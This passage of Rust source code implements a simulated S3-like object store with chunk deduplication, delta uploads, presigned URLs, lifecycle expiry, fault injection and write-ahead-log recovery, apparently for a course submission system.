    buckets: BTreeMap<String, BucketState>,
}

#[derive(Default)]
struct Counters {
    bytes_uploaded: u64,
    bytes_downloaded: u64,
    bytes_wire: u64,
    puts: u64,
    delta_puts: u64,
    gets: u64,
    deletes: u64,
    expired: u64,
}

struct StoreInner {
    clock: VirtualClock,
    /// Secret for presigned-URL signatures (per store instance).
    presign_secret: u64,
    /// Chunker parameters used by whole-payload `put`s.
    chunker: ChunkerParams,
    state: RwLock<StoreState>,
    /// The refcounted chunk arena, hash-partitioned by digest prefix
    /// into independent lock domains (1 shard = the reference config).
    arena: ChunkArena,
    counters: RwLock<Counters>,
    /// Remaining operations that should fail (fault injection).
    faults: std::sync::atomic::AtomicU64,
    /// Probability-driven fault injection (chaos runs).
    injector: RwLock<Option<rai_faults::FaultInjector>>,
    /// Executor for server-side chunking and chunk verification.
    /// Sequential by default; a pool spreads the per-chunk digest work
    /// without changing any stored byte (DESIGN.md §12).
    executor: RwLock<Executor>,
    /// Optional write-ahead log for object mutations. When attached
    /// without chunk logs (the legacy single-log layout), chunk bytes
    /// ride `Put` records and every put serializes under the state
    /// lock so log order matches application order.
    wal: RwLock<Option<Wal>>,
    /// Sharded-durable mode: one chunk log per arena shard (empty
    /// otherwise). Newly admitted chunk bytes are journaled as
    /// [`StoreRecord::ChunkInstall`] under the owning shard's lock, so
    /// each shard's log order matches its admission order and the main
    /// log's `Put` records carry no bytes — which is what lets
    /// admissions run outside the state lock without racing replay.
    chunk_wals: RwLock<Vec<Wal>>,
}

/// Minimum total provided-chunk bytes before `put_delta` pre-hashes on
/// the pool instead of hashing inline under the state lock. Small
/// deltas (the steady-state resubmission) stay on the inline path.
const PAR_VERIFY_MIN_BYTES: u64 = 32 * 1024;

/// Cumulative usage snapshot — backs the paper's §VII resource-usage
/// numbers ("the file server held 100GB of data for 176 students"),
/// extended with the dedup split between logical and physical bytes.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StoreUsage {
    /// Logical bytes currently resident (sum of object sizes; what a
    /// non-deduplicating store would hold).
    pub bytes_stored: u64,
    /// Physical bytes currently resident (each distinct chunk once).
    pub bytes_physical: u64,
    /// Distinct chunks currently resident.
    pub chunks: u64,
    /// Cumulative chunk references resolved against already-resident
    /// chunks (uploads avoided by dedup).
    pub chunks_dedup_total: u64,
    /// Objects currently resident.
    pub objects: u64,
    /// Total logical bytes ever uploaded.
    pub bytes_uploaded: u64,
    /// Total bytes that actually crossed the wire on uploads (full
    /// payloads for plain puts; manifest + missing chunks for deltas).
    pub bytes_wire: u64,
    /// Total bytes ever served.
    pub bytes_downloaded: u64,
    /// Put operations (plain and delta).
    pub puts: u64,
    /// Delta-put operations (subset of `puts`).
    pub delta_puts: u64,
    /// Get operations.
    pub gets: u64,
    /// Explicit deletes.
    pub deletes: u64,
    /// Objects removed by lifecycle sweeps.
    pub expired: u64,
}

/// The S3-like object store.
#[derive(Clone)]
pub struct ObjectStore {
    inner: Arc<StoreInner>,
}

/// Per-instance presign secret: a process-unique counter diffused
/// through the splitmix64 finalizer.
fn next_presign_secret() -> u64 {
    static COUNTER: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0x5241_4953);
    let mut z = COUNTER.fetch_add(0x9E37_79B9_7F4A_7C15, std::sync::atomic::Ordering::Relaxed);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

impl ObjectStore {
    /// A store reading time from `clock`, with a single-lock chunk
    /// arena (the reference configuration).
    pub fn new(clock: VirtualClock) -> Self {
        Self::with_shards(clock, 1)
    }

    /// A store whose chunk arena is partitioned into `shards`
    /// digest-prefix lock domains (clamped to at least 1). Shard
    /// assignment is a pure function of the digest, and every
    /// observable result is byte-identical at any shard count — only
    /// contention changes.
    pub fn with_shards(clock: VirtualClock, shards: usize) -> Self {
        ObjectStore {
            inner: Arc::new(StoreInner {
                presign_secret: next_presign_secret(),
                chunker: ChunkerParams::DEFAULT,
                clock,
                state: RwLock::new(StoreState {
                    buckets: BTreeMap::new(),
                }),
                arena: ChunkArena::new(shards),
                counters: RwLock::new(Counters::default()),
                faults: std::sync::atomic::AtomicU64::new(0),
                injector: RwLock::new(None),
                executor: RwLock::new(Executor::sequential()),
                wal: RwLock::new(None),
                chunk_wals: RwLock::new(Vec::new()),
            }),
        }
    }

    /// Number of chunk-arena lock domains.
    pub fn shard_count(&self) -> usize {
        self.inner.arena.shard_count()
    }

    /// Resident chunks per arena shard (telemetry gauge).
    pub fn shard_chunk_counts(&self) -> Vec<u64> {
        self.inner.arena.shard_chunk_counts()
    }

    /// Cumulative microseconds spent waiting on contended arena shard
    /// locks — a host fact (never fingerprinted), like `ExecStats`.
    pub fn lock_wait_micros(&self) -> u64 {
        self.inner.arena.lock_wait_micros()
    }

    /// Exclusive (write) acquisitions of the arena's shard locks — a
    /// host fact used to audit that pure presence reads stay off the
    /// write path (DESIGN.md §17).
    pub fn arena_write_acquisitions(&self) -> u64 {
        self.inner.arena.write_acquisitions()
    }

    /// Shared (read) acquisitions of the arena's shard locks — the
    /// counterpart audit counter to
    /// [`ObjectStore::arena_write_acquisitions`].
    pub fn arena_read_acquisitions(&self) -> u64 {
        self.inner.arena.read_acquisitions()
    }

    /// Route server-side chunking/digesting onto `exec`. Results are
    /// byte-identical at any parallelism; only wall-clock changes.
    pub fn set_executor(&self, exec: Executor) {
        *self.inner.executor.write() = exec;
    }

    /// Create a bucket with a lifecycle rule.
    pub fn create_bucket(&self, name: &str, rule: LifecycleRule) -> Result<(), StoreError> {
        let wal = self.inner.wal.read().clone();
        let mut state = self.inner.state.write();
        if state.buckets.contains_key(name) {
            return Err(StoreError::BucketExists(name.to_string()));
        }
        if let Some(w) = &wal {
            w.append(&StoreRecord::CreateBucket { name: name.to_string(), rule }.encode());
        }
        state.buckets.insert(
            name.to_string(),
            BucketState {
                rule,
                objects: BTreeMap::new(),
            },
        );
        Ok(())
    }

    /// Whether a bucket exists.
    pub fn has_bucket(&self, name: &str) -> bool {
        self.inner.state.read().buckets.contains_key(name)
    }

    /// Make the next `n` data operations (put/get) fail with
    /// [`StoreError::Unavailable`] — chaos testing for the paper's
    /// "robust to failures" requirement.
    pub fn inject_faults(&self, n: u64) {
        self.inner
            .faults
            .store(n, std::sync::atomic::Ordering::SeqCst);
    }

    /// Attach a seeded fault injector: each put/get additionally fails
    /// with [`StoreError::Unavailable`] per the injector's plan
    /// (`store_put` / `store_get` probabilities). Coexists with the
    /// [`ObjectStore::inject_faults`] budget, which always fires first.
    pub fn set_fault_injector(&self, injector: rai_faults::FaultInjector) {
        *self.inner.injector.write() = Some(injector);
    }

    fn take_fault(&self) -> bool {
        self.inner
            .faults
            .fetch_update(
                std::sync::atomic::Ordering::SeqCst,
                std::sync::atomic::Ordering::SeqCst,
                |n| n.checked_sub(1),
            )
            .is_ok()
    }

    fn injected_fault(&self, kind: rai_faults::FaultKind) -> bool {
        match self.inner.injector.read().as_ref() {
            Some(inj) => inj.should_fail(kind),
            None => false,
        }
    }

    /// Take one arena reference per manifest chunk, atomically: every
    /// shard a referenced (or provided) chunk hashes into is locked —
    /// in ascending index order — for the whole
    /// verify-then-retain sequence, so an admission either fully
    /// happens or (on [`StoreError::MissingChunks`] /
    /// [`StoreError::DeltaMismatch`]) changes nothing.
    ///
    /// `verify` runs the delta-protocol checks (hash of non-resident
    /// provided bytes, lengths vs the manifest, residency of every
    /// reference); chunker-produced puts skip them. In sharded-durable
    /// mode each newly admitted chunk is journaled as a
    /// [`StoreRecord::ChunkInstall`] to its shard's log *under that
    /// shard's lock*; otherwise (when `collect_new`) the new bytes are
    /// returned, in manifest order, for the caller's `Put` record.
    fn admit(
        &self,
        manifest: &ChunkManifest,
        by_digest: &BTreeMap<u64, &Bytes>,
        provided: &[Chunk],
        pre_hashed: Option<&[u64]>,
        verify: bool,
        collect_new: bool,
    ) -> Result<Vec<(u64, Bytes)>, StoreError> {
        let arena = &self.inner.arena;
        let chunk_wals = self.inner.chunk_wals.read();
        let mut shards: Vec<usize> = manifest
            .chunks
            .iter()
            .map(|r| arena.shard_of(r.digest))
            .chain(provided.iter().map(|c| arena.shard_of(c.digest)))
            .collect();
        shards.sort_unstable();
        shards.dedup();
        let mut guards = arena.lock_many(shards);
        let shard_ids: Vec<usize> = guards.iter().map(|(s, _)| *s).collect();
        let idx_of = |shard: usize| {
            shard_ids.binary_search(&shard).expect("every involved shard is locked")
        };

        if verify {
            for (i, c) in provided.iter().enumerate() {
                // Only hash-verify bytes that would actually be
                // admitted; resident chunks dedup against the stored
                // copy and their provided bytes are never written.
                if !guards[idx_of(arena.shard_of(c.digest))].1.contains(c.digest) {
                    let actual = match pre_hashed {
                        Some(h) => h[i],
                        None => fnv::hash(&c.data),
                    };
                    if actual != c.digest {
                        return Err(StoreError::DeltaMismatch {
                            reason: "chunk bytes do not match claimed digest",
                        });
                    }
                }
            }
            for r in &manifest.chunks {
                if let Some(data) = by_digest.get(&r.digest) {
                    if data.len() as u32 != r.len {
                        return Err(StoreError::DeltaMismatch {
                            reason: "chunk length disagrees with manifest",
                        });
                    }
                }
            }
            // Atomicity: resolve every reference before mutating
            // anything.
            let missing: Vec<u64> = manifest
                .chunks
                .iter()
                .map(|r| r.digest)
                .filter(|d| {
                    !by_digest.contains_key(d)
                        && !guards[idx_of(arena.shard_of(*d))].1.contains(*d)
                })
                .collect();
            if !missing.is_empty() {
                return Err(StoreError::MissingChunks { missing });
            }
        }

        let mut new_chunks: Vec<(u64, Bytes)> = Vec::new();
        for r in &manifest.chunks {
            let shard = arena.shard_of(r.digest);
            let hit = guards[idx_of(shard)]
                .1
                .retain(r.digest, by_digest.get(&r.digest).copied())
                .expect("availability verified by caller or protocol");
            if !hit {
                let data =
                    (*by_digest.get(&r.digest).expect("new chunk was provided")).clone();
                if let Some(w) = chunk_wals.get(shard) {
                    w.append(
                        &StoreRecord::ChunkInstall { digest: r.digest, bytes: data }.encode(),
                    );
                } else if collect_new {
                    new_chunks.push((r.digest, data));
                }
            }
        }
        Ok(new_chunks)
    }

    /// Drop one arena reference per manifest chunk. Must be called
    /// with the state write lock held — releases are serialized under
    /// it so concurrent readers can assemble resident manifests safely
    /// (see [`StoreState`]).
    fn release_manifest(&self, manifest: &ChunkManifest, replay: bool) {
        let arena = &self.inner.arena;
        for r in &manifest.chunks {
            let mut g = arena.lock(arena.shard_of(r.digest));
            if replay {
                g.release_replay(r.digest);
            } else {
                g.release(r.digest);
            }
        }
    }

    /// Whether the legacy single-log layout is active: a WAL is
    /// attached with no per-shard chunk logs, so chunk bytes must ride
    /// `Put` records and puts must serialize under the state lock
    /// (admission order and main-log order must agree for replay).
    fn legacy_log_layout(&self) -> bool {
        self.inner.wal.read().is_some() && self.inner.chunk_wals.read().is_empty()
    }

    /// Upload (or overwrite) an object from a whole payload; returns
    /// its etag. The payload is chunked server-side, so even plain
    /// puts dedup against resident content — but the full payload
    /// still crosses the wire. Delta-aware clients use
    /// [`ObjectStore::has_chunks`] + [`ObjectStore::put_delta`] to
    /// avoid that.
    pub fn put(
        &self,
        bucket: &str,
        key: &str,
        data: impl Into<Bytes>,
        user_meta: impl IntoIterator<Item = (String, String)>,
    ) -> Result<String, StoreError> {
        if self.take_fault() || self.injected_fault(rai_faults::FaultKind::StorePut) {
            return Err(StoreError::Unavailable);
        }
        let data = data.into();
        let exec = self.inner.executor.read().clone();
        let (manifest, chunks) = chunk_bytes_on(&exec, &data, self.inner.chunker);
        let size = manifest.total_len;
        let etag = manifest.etag.clone();
        let user: BTreeMap<String, String> = user_meta.into_iter().collect();
        // The chunker emits refs and chunk bodies in lockstep, so the
        // pairing is positional.
        debug_assert_eq!(manifest.chunks.len(), chunks.len());
        debug_assert!(manifest.chunks.iter().zip(&chunks).all(|(r, c)| r.digest == c.digest));
        let by_digest: BTreeMap<u64, &Bytes> =
            chunks.iter().map(|c| (c.digest, &c.data)).collect();

        self.commit_put(bucket, key, &manifest, &by_digest, &[], None, false, user, size)?;

        let mut c = self.inner.counters.write();
        c.puts += 1;
        c.bytes_uploaded += size;
        c.bytes_wire += size;
        Ok(etag)
    }

    /// The shared admit → journal → install tail of `put`/`put_delta`.
    /// In the legacy single-log layout the whole sequence holds the
    /// state write lock (admission order must match log order); in
    /// sharded or log-free mode only the install does, and admissions
    /// on disjoint digest prefixes run concurrently.
    #[allow(clippy::too_many_arguments)]
    fn commit_put(
        &self,
        bucket: &str,
        key: &str,
        manifest: &ChunkManifest,
        by_digest: &BTreeMap<u64, &Bytes>,
        provided: &[Chunk],
        pre_hashed: Option<&[u64]>,
        delta: bool,
        user: BTreeMap<String, String>,
        wire_bytes: u64,
    ) -> Result<(), StoreError> {
        let wal = self.inner.wal.read().clone();
        let (new_chunks, mut state) = if self.legacy_log_layout() {
            let state = self.inner.state.write();
            if !state.buckets.contains_key(bucket) {
                return Err(StoreError::NoSuchBucket(bucket.to_string()));
            }
            let new =
                self.admit(manifest, by_digest, provided, pre_hashed, delta, wal.is_some())?;
            (new, state)
        } else {
            if !self.inner.state.read().buckets.contains_key(bucket) {
                return Err(StoreError::NoSuchBucket(bucket.to_string()));
            }
            // Buckets are monotonic (no deletion API), so the check
            // above stays valid without holding the lock across the
            // admission.
            let new =
                self.admit(manifest, by_digest, provided, pre_hashed, delta, wal.is_some())?;
            (new, self.inner.state.write())
        };
        let now = self.inner.clock.now();
        if let Some(w) = &wal {
            w.append(
                &StoreRecord::Put {
                    bucket: bucket.to_string(),
                    key: key.to_string(),
                    time_millis: now.as_millis(),
                    manifest: manifest.clone(),
                    new_chunks,
                    user: user.clone(),
                    wire_bytes,
                    delta,
                }
                .encode(),
            );
        }
        self.install_record(&mut state, bucket, key, manifest.clone(), user, now);
        Ok(())
    }

    /// Which of `digests` are already resident? Returns one flag per
    /// input digest, in order. This is the discovery step of the
    /// delta-upload protocol; it is a metadata round trip and subject
    /// to the same transient faults as data reads.
    ///
    /// Pure presence checks answer from the shard *read* locks: many
    /// concurrent `has_chunks` probes (and `put_delta` validations)
    /// share each shard without excluding one another, and never stall
    /// behind this call.
    pub fn has_chunks(&self, digests: &[u64]) -> Result<Vec<bool>, StoreError> {
        if self.take_fault() || self.injected_fault(rai_faults::FaultKind::StoreGet) {
            return Err(StoreError::Unavailable);
        }
        Ok(digests.iter().map(|&d| self.inner.arena.contains(d)).collect())
    }

    /// Upload (or overwrite) an object as a manifest plus only the
    /// chunks the store does not already hold; returns the etag.
    ///
    /// `provided` may carry any subset of the manifest's chunks; every
    /// referenced chunk must either be provided or already resident,
    /// otherwise the upload fails atomically with
    /// [`StoreError::MissingChunks`] and no state changes. Supplied
    /// bytes are verified against the manifest's lengths, and against
    /// their claimed digest when not already resident (resident chunks
    /// dedup against the stored copy, so their provided bytes are
    /// never admitted and need no re-hash).
    pub fn put_delta(
        &self,
        bucket: &str,
        key: &str,
        manifest: &ChunkManifest,
        provided: &[Chunk],
        user_meta: impl IntoIterator<Item = (String, String)>,
    ) -> Result<String, StoreError> {
        if self.take_fault() || self.injected_fault(rai_faults::FaultKind::StorePut) {
            return Err(StoreError::Unavailable);
        }
        let declared: u64 = manifest.chunks.iter().map(|r| r.len as u64).sum();
        if declared != manifest.total_len {
            return Err(StoreError::DeltaMismatch {
                reason: "manifest total_len disagrees with chunk lengths",
            });
        }
        let user: BTreeMap<String, String> = user_meta.into_iter().collect();

        // Under a pool executor, bulk deltas pre-hash their provided
        // bytes in parallel *before* the state lock; the verification
        // loop below then compares precomputed digests instead of
        // hashing inline while writers wait. The accept/reject outcome
        // is identical (same chunks checked, in the same order).
        let exec = self.inner.executor.read().clone();
        let provided_bytes: u64 = provided.iter().map(|c| c.data.len() as u64).sum();
        let pre_hashed: Option<Vec<u64>> =
            if !exec.is_sequential() && provided_bytes >= PAR_VERIFY_MIN_BYTES {
                Some(exec.par_map(provided.iter().collect(), |c: &Chunk| fnv::hash(&c.data)))
            } else {
                None
            };

        // A chunk that is already resident dedups against the stored
        // copy and its provided bytes are never admitted, so `admit`
        // only hash-verifies the bytes that would actually be written
        // (the client already digested every chunk when it built the
        // manifest; this avoids re-hashing the dedup-hit majority).
        let by_digest: BTreeMap<u64, &Bytes> =
            provided.iter().map(|c| (c.digest, &c.data)).collect();
        let etag = manifest.etag.clone();
        let wire: u64 = provided_bytes + manifest.encoded_len();

        self.commit_put(
            bucket,
            key,
            manifest,
            &by_digest,
            provided,
            pre_hashed.as_deref(),
            true,
            user,
            wire,
        )?;

        let mut c = self.inner.counters.write();
        c.puts += 1;
        c.delta_puts += 1;
        c.bytes_uploaded += manifest.total_len;
        c.bytes_wire += wire;
        Ok(etag)
    }

    /// Insert the new record (references already taken), releasing the
    /// previous object under this key if any. New references are taken
    /// before old ones are released so an overwrite never frees chunks
    /// the new manifest shares with the old.
    fn install_record(
        &self,
        state: &mut StoreState,
        bucket: &str,
        key: &str,
        manifest: ChunkManifest,
        user: BTreeMap<String, String>,
        now: SimTime,
    ) {
        let record = ObjRecord {
            meta: ObjectMeta {
                key: key.to_string(),
                size: manifest.total_len,
                etag: manifest.etag.clone(),
                uploaded_at: now,
                last_used: now,
                user,
            },
            manifest,
        };
        let b = state.buckets.get_mut(bucket).expect("bucket checked by caller");
        let prev = b.objects.insert(key.to_string(), record);
        if let Some(prev) = prev {
            // New references were taken by `admit` before this release,
            // so an overwrite never frees chunks the new manifest
            // shares with the old.
            self.release_manifest(&prev.manifest, false);
        }
    }

    /// Download an object, reassembled from its chunks. Refreshes its
    /// `last_used` stamp (which is what makes the paper's "one month
    /// after the last use" policy work).
    pub fn get(&self, bucket: &str, key: &str) -> Result<StoredObject, StoreError> {
        if self.take_fault() || self.injected_fault(rai_faults::FaultKind::StoreGet) {
            return Err(StoreError::Unavailable);
        }
        let now = self.inner.clock.now();
        let wal = self.inner.wal.read().clone();
        let mut state = self.inner.state.write();
        let b = state
            .buckets
            .get_mut(bucket)
            .ok_or_else(|| StoreError::NoSuchBucket(bucket.to_string()))?;
        let rec = b.objects.get_mut(key).ok_or_else(|| StoreError::NoSuchKey {
            bucket: bucket.to_string(),
            key: key.to_string(),
        })?;
        rec.meta.last_used = now;
        // Assembling while holding the state write lock is what makes
        // this safe: all chunk releases serialize under it, so every
        // chunk this resident manifest references stays resident.
        let arena = &self.inner.arena;
        let data = assemble(&rec.manifest, |d| arena.lock(arena.shard_of(d)).data(d))
            .expect("resident manifests always resolve");
        let out = StoredObject {
            meta: rec.meta.clone(),
            data: Bytes::from(data),
        };
        if let Some(w) = &wal {
            // `last_used` drives lifecycle expiry, so reads are
            // journaled too (as a metadata touch, not the payload).
            w.append(
                &StoreRecord::Touch {
                    bucket: bucket.to_string(),
                    key: key.to_string(),
                    time_millis: now.as_millis(),
                    size: out.meta.size,
                }
                .encode(),
            );
        }
        drop(state);
        let mut c = self.inner.counters.write();
        c.gets += 1;
        c.bytes_downloaded += out.meta.size;
        Ok(out)
    }

    /// Metadata only, without touching `last_used`.
    pub fn head(&self, bucket: &str, key: &str) -> Result<ObjectMeta, StoreError> {
        let state = self.inner.state.read();
        let b = state
            .buckets
            .get(bucket)
            .ok_or_else(|| StoreError::NoSuchBucket(bucket.to_string()))?;
        b.objects
            .get(key)
            .map(|o| o.meta.clone())
            .ok_or_else(|| StoreError::NoSuchKey {
                bucket: bucket.to_string(),
                key: key.to_string(),
            })
    }

    /// Delete an object, releasing its chunk references.
    pub fn delete(&self, bucket: &str, key: &str) -> Result<(), StoreError> {
        let wal = self.inner.wal.read().clone();
        let mut state = self.inner.state.write();
        let b = state
            .buckets
            .get_mut(bucket)
            .ok_or_else(|| StoreError::NoSuchBucket(bucket.to_string()))?;
        let rec = b.objects.remove(key).ok_or_else(|| StoreError::NoSuchKey {
            bucket: bucket.to_string(),
            key: key.to_string(),
        })?;
        self.release_manifest(&rec.manifest, false);
        if let Some(w) = &wal {
            w.append(
                &StoreRecord::Delete { bucket: bucket.to_string(), key: key.to_string() }
                    .encode(),
            );
        }
        drop(state);
        self.inner.counters.write().deletes += 1;
        Ok(())
    }

    /// List object metadata under a key prefix, in key order. The
    /// instructor's "download all final submissions" tool drives this.
    pub fn list(&self, bucket: &str, prefix: &str) -> Result<Vec<ObjectMeta>, StoreError> {
        let state = self.inner.state.read();
        let b = state
            .buckets
            .get(bucket)
            .ok_or_else(|| StoreError::NoSuchBucket(bucket.to_string()))?;
        Ok(b.objects
            .range(prefix.to_string()..)
            .take_while(|(k, _)| k.starts_with(prefix))
            .map(|(_, o)| o.meta.clone())
            .collect())
    }

    /// Create a presigned URL for `bucket/key`, valid until
    /// `expires_at` (virtual time). This is what the worker actually
    /// hands the client for the `/build` archive — downloadable without
    /// credentials, like an S3 presigned GET.
    pub fn presign(&self, bucket: &str, key: &str, expires_at: rai_sim::SimTime) -> String {
        let sig = self.presign_signature(bucket, key, expires_at);
        format!("rai-s3://{bucket}/{key}?expires={}&sig={sig:016x}", expires_at.as_millis())
    }

    fn presign_signature(&self, bucket: &str, key: &str, expires_at: rai_sim::SimTime) -> u64 {
        // Keyed FNV-1a over (secret, bucket, key, expiry). Not
        // cryptographic — matches the store's integrity-not-secrecy
        // threat model; real deployments use SigV4.
        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ self.inner.presign_secret;
        for b in bucket
            .as_bytes()
            .iter()
            .chain(&[0u8])
            .chain(key.as_bytes())
            .chain(&[0u8])
            .chain(&expires_at.as_millis().to_le_bytes())
        {
            h ^= *b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        h
    }

    /// Fetch through a presigned URL, enforcing expiry and signature.
    pub fn get_presigned(&self, url: &str) -> Result<StoredObject, StoreError> {
        let rest = url.strip_prefix("rai-s3://").ok_or(StoreError::BadPresignedUrl)?;
        let (path, query) = rest.split_once('?').ok_or(StoreError::BadPresignedUrl)?;
        let (bucket, key) = path.split_once('/').ok_or(StoreError::BadPresignedUrl)?;
        let mut expires = None;
        let mut sig = None;
        for pair in query.split('&') {
            match pair.split_once('=') {
                Some(("expires", v)) => expires = v.parse::<u64>().ok(),
                Some(("sig", v)) => sig = u64::from_str_radix(v, 16).ok(),
                _ => {}
            }
        }
        let (Some(expires), Some(sig)) = (expires, sig) else {
            return Err(StoreError::BadPresignedUrl);
        };
        let expires_at = rai_sim::SimTime::from_millis(expires);
        if self.presign_signature(bucket, key, expires_at) != sig {
            return Err(StoreError::BadPresignedUrl);
        }
        if self.inner.clock.now() > expires_at {
            return Err(StoreError::BadPresignedUrl);
        }
        self.get(bucket, key)
    }

    /// Run a lifecycle sweep at the clock's current time; returns how
    /// many objects were expired. A real deployment runs this daily.
    ///
    /// Expiry is manifest-aware: it releases the doomed object's chunk
    /// references rather than deleting bytes, so chunks shared with
    /// live objects survive and only unreferenced ones are freed.
    pub fn sweep_lifecycle(&self) -> u64 {
        let now = self.inner.clock.now();
        let wal = self.inner.wal.read().clone();
        let mut expired = 0u64;
        let mut state = self.inner.state.write();
        let mut released: Vec<ChunkManifest> = Vec::new();
        for b in state.buckets.values_mut() {
            let rule = b.rule;
            let doomed: Vec<String> = b
                .objects
                .iter()
                .filter(|(_, o)| rule.is_expired(o.meta.uploaded_at, o.meta.last_used, now))
                .map(|(k, _)| k.clone())
                .collect();
            for k in doomed {
                let rec = b.objects.remove(&k).expect("doomed key just listed");
                released.push(rec.manifest);
                expired += 1;
            }
        }
        for manifest in &released {
            self.release_manifest(manifest, false);
        }
        // A sweep that expired nothing is a no-op at any replay time
        // and is not journaled; one that did is replayed at its
        // recorded time (expiry depends on the journaled timestamps).
        if expired > 0 {
            if let Some(w) = &wal {
                w.append(&StoreRecord::Sweep { time_millis: now.as_millis() }.encode());
            }
        }
        drop(state);
        self.inner.counters.write().expired += expired;
        expired
    }

    /// Usage snapshot.
    pub fn usage(&self) -> StoreUsage {
        let state = self.inner.state.read();
        let mut bytes_stored = 0;
        let mut objects = 0;
        for b in state.buckets.values() {
            for o in b.objects.values() {
                bytes_stored += o.meta.size;
                objects += 1;
            }
        }
        let (chunks, bytes_physical, chunks_dedup_total) = self.inner.arena.totals();
        drop(state);
        let c = self.inner.counters.read();
        StoreUsage {
            bytes_stored,
            bytes_physical,
            chunks,
            chunks_dedup_total,
            objects,
            bytes_uploaded: c.bytes_uploaded,
            bytes_wire: c.bytes_wire,
            bytes_downloaded: c.bytes_downloaded,
            puts: c.puts,
            delta_puts: c.delta_puts,
            gets: c.gets,
            deletes: c.deletes,
            expired: c.expired,
        }
    }

    /// The clock this store reads.
    pub fn clock(&self) -> &VirtualClock {
        &self.inner.clock
    }

    // ---- durability --------------------------------------------------

    /// Attach a write-ahead log in the legacy single-log layout (chunk
    /// bytes ride `Put` records): every committed mutation from here
    /// on is journaled. Attach before the first mutation — the log
    /// must cover the store's whole history (or start from a
    /// snapshot).
    pub fn attach_wal(&self, wal: Wal) {
        self.attach_logs(wal, Vec::new());
    }

    /// Attach the sharded-durable log streams: a main object log plus
    /// one chunk log per arena shard (or none, for the legacy layout).
    /// Newly admitted chunk bytes go to their shard's log; `Put`
    /// records in the main log then carry no bytes.
    pub fn attach_logs(&self, main: Wal, chunk_wals: Vec<Wal>) {
        assert!(
            chunk_wals.is_empty() || chunk_wals.len() == self.inner.arena.shard_count(),
            "one chunk log per arena shard"
        );
        *self.inner.wal.write() = Some(main);
        *self.inner.chunk_wals.write() = chunk_wals;
    }

    /// The attached main WAL, if any.
    pub fn wal(&self) -> Option<Wal> {
        self.inner.wal.read().clone()
    }

    /// The attached per-shard chunk logs (empty in the legacy layout).
    pub fn chunk_wals(&self) -> Vec<Wal> {
        self.inner.chunk_wals.read().clone()
    }

    /// Force the attached logs' buffered appends to stable storage
    /// (durability point). Chunk logs sync before the main log so a
    /// crash between the two can lose an admitted chunk's `Put`, but
    /// never a synced `Put`'s chunk bytes... except when the tear
    /// itself lands on a chunk lane, which replay handles by dropping
    /// (and counting) the unreadable object. No-op without a WAL.
    pub fn sync_wal(&self) {
        for w in self.inner.chunk_wals.read().iter() {
            w.sync();
        }
        if let Some(w) = self.inner.wal.read().as_ref() {
            w.sync();
        }
    }

    /// Open a store's log streams over one backend, per the arena
    /// shard count. At `shards == 1` the backend carries the single
    /// legacy log byte-for-byte (no striping, no chunk lanes); at
    /// `shards > 1` the backend's segment-id space is striped into
    /// `shards + 1` interleaved lanes — lane 0 the main object log,
    /// lanes `1..=shards` one chunk log per arena shard — so drivers
    /// keep provisioning exactly one store log either way.
    pub fn open_store_logs(
        backend: Arc<dyn LogBackend>,
        config: DurabilityConfig,
        shards: usize,
    ) -> (Wal, Vec<Wal>) {
        if shards <= 1 {
            return (Wal::open(backend, config), Vec::new());
        }
        let stride = shards as u64 + 1;
        let main = Wal::open(
            Arc::new(StripedBackend::new(backend.clone(), 0, stride)),
            config,
        );
        let chunks = (0..shards)
            .map(|i| {
                Wal::open(
                    Arc::new(StripedBackend::new(backend.clone(), i as u64 + 1, stride)),
                    config,
                )
            })
            .collect();
        (main, chunks)
    }

    /// Rebuild a store from `wal`, then attach the log to the rebuilt
    /// store so it keeps journaling. Corrupt WAL records were already
    /// dropped by the framing layer; logically-malformed payloads and
    /// objects whose chunk bytes were lost with a dropped record are
    /// counted in the returned [`StoreRecovery`] — replay never
    /// panics and never installs an unreadable object.
    pub fn recover(clock: VirtualClock, wal: Wal) -> (ObjectStore, StoreRecovery) {
        Self::recover_sharded(clock, wal, Vec::new())
    }

    /// Rebuild a sharded-durable store: one chunk log per arena shard
    /// plus the main object log. The arena shard count is implied by
    /// the lane count (`chunk_wals.len()`, or 1 when empty — the
    /// legacy layout).
    ///
    /// Replay runs in two phases. Phase 1 restores every lane's
    /// [`StoreRecord::ChunkInstall`] bytes at refcount zero; phase 2
    /// replays the main log, re-deriving each put's dedup outcome from
    /// the refcount (see `ChunkStore::retain_replay`) so the rebuilt
    /// state is byte-identical regardless of how installs interleaved
    /// across lanes. Chunks left unreferenced at the end — orphaned by
    /// dropped objects or freed before the crash — are pruned.
    pub fn recover_sharded(
        clock: VirtualClock,
        main: Wal,
        chunk_wals: Vec<Wal>,
    ) -> (ObjectStore, StoreRecovery) {
        fn add(into: &mut rai_wal::ReplayStats, s: rai_wal::ReplayStats) {
            into.replayed += s.replayed;
            into.corrupt_dropped += s.corrupt_dropped;
            into.torn_bytes += s.torn_bytes;
        }
        let store = ObjectStore::with_shards(clock, chunk_wals.len().max(1));
        let sharded = !chunk_wals.is_empty();
        let mut recovery = StoreRecovery::default();
        // Phase 1: restore the chunk lanes. Lane `i` holds exactly
        // shard `i`'s admissions in admission order; a record lost to
        // a torn lane tail surfaces in phase 2 as an unresolvable
        // object (dropped, counted), never as a panic.
        for (i, wal) in chunk_wals.iter().enumerate() {
            let replay = wal.replay();
            add(&mut recovery.stats, replay.stats);
            let mut shard = store.inner.arena.lock(i);
            for payload in &replay.records {
                match StoreRecord::decode(payload) {
                    Some(StoreRecord::ChunkInstall { digest, bytes }) => {
                        shard.restore_chunk(digest, bytes);
                        recovery.applied += 1;
                    }
                    _ => recovery.malformed_dropped += 1,
                }
            }
        }
        // Phase 2: the main object log.
        let replay = main.replay();
        add(&mut recovery.stats, replay.stats);
        {
            let mut state = store.inner.state.write();
            let mut counters = store.inner.counters.write();
            for payload in &replay.records {
                match StoreRecord::decode(payload) {
                    Some(rec) => {
                        recovery.objects_dropped +=
                            store.apply(&mut state, &mut counters, rec, sharded);
                        recovery.applied += 1;
                    }
                    None => recovery.malformed_dropped += 1,
                }
            }
        }
        // Chunks no surviving manifest references (snapshot leftovers,
        // dropped objects, frees before the crash) would otherwise
        // linger with a zero refcount.
        store.inner.arena.prune_unreferenced();
